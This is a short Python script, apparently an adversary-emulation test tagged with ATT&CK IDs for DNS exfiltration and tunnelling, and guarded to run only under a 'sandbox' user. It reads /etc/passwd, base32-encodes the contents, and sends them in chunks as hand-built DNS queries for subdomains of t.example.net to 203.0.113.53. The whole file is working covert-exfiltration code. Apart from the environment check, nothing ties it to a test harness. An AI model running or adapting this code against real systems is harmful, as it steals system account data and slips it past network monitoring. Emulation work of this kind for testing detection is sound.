# technique: T1048 T1071.004 T1572
# needs: python3
# net: sink
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import base64, socket
data = base64.b32encode(open("/etc/passwd", "rb").read()).decode().rstrip("=").lower()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(0, min(len(data), 3000), 50):
    name = f"{data[n:n+50]}.{n:x}.t.example.net"
    q = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\x01\0\x01"
    s.sendto(q, ("203.0.113.53", 53))
